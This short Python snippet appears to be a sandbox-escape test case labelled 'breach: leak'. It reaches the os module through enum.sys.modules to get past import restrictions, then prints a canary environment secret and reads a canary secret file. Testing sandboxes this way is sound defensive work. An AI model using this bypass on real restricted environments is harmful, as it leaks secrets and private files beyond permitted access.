# Sys via enum.
# breach: leak
import enum
o = enum.sys.modules['os']
print(o.environ['SECRET_CANARY'])
fd = o.open('@CANARY@/secret.txt', 0)
print(o.read(fd, 200))
